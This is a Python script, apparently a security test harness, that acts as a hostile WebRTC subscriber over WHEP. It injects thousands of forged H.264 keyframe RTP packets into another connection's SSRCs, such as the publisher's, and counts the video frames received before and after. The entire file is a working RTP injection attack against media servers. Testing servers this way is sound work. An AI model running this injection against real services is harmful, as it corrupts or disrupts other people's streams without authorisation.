#!/usr/bin/env python3
"""A hostile subscriber on another WebRTC stack (aiortc): it plays a stream over WHEP and, once
the stream's video arrives, sends media it was not granted on its connection, encrypted as the
connection's own: COUNT RTP packets that look like H.264 keyframes, spread over the SSRCs given
(another connection's, e.g. the publisher's own), the SSRC the server sends it the video on,
and a random one, with the video's payload type. Then it keeps playing for two seconds.
Prints one line of JSON: what it sent, and the video frames it received before and after.

usage: rtp_inject.py WHEP_URL TOKEN SSRC[,SSRC...] COUNT
"""

import asyncio
import json
import os
import random
import re
import sys

from aiortc.rtp import RtpPacket

from whep_play import play


def video_payload_type(answer):
    """The first H.264 payload type of the answer's video section."""
    video = answer.split("m=video", 1)[1].split("m=audio", 1)[0]
    found = re.search(r"a=rtpmap:(\d+) H264/90000", video)
    return int(found.group(1)) if found else 96


async def main():
    url, token = sys.argv[1], sys.argv[2]
    ssrcs = [int(s) for s in sys.argv[3].split(",") if s]
    count = int(sys.argv[4])
    playing = await play(url, token)
    if playing is None:
        return
    pc, receiver, ssrc, answer, received = playing
    targets = ssrcs + [ssrc, random.getrandbits(32)]
    pt = video_payload_type(answer)
    transport = receiver.transport
    before = received["frames"]
    for i in range(count):
        # An IDR slice's NAL header, then noise: a keyframe to anyone who forwarded it.
        packet = RtpPacket(payload_type=pt, marker=1, sequence_number=i % 65536,
                           timestamp=(i * 3000) % (1 << 32), ssrc=targets[i % len(targets)],
                           payload=b"\x65" + os.urandom(900))
        await transport._send_rtp(packet.serialize())
        if i % 50 == 49:
            await asyncio.sleep(0.01)  # about 5,000 packets a second
    await asyncio.sleep(2)
    print(json.dumps({"sent": count, "ssrcs": targets, "framesBefore": before,
                      "framesAfter": received["frames"] - before}), flush=True)
    await pc.close()


asyncio.run(main())
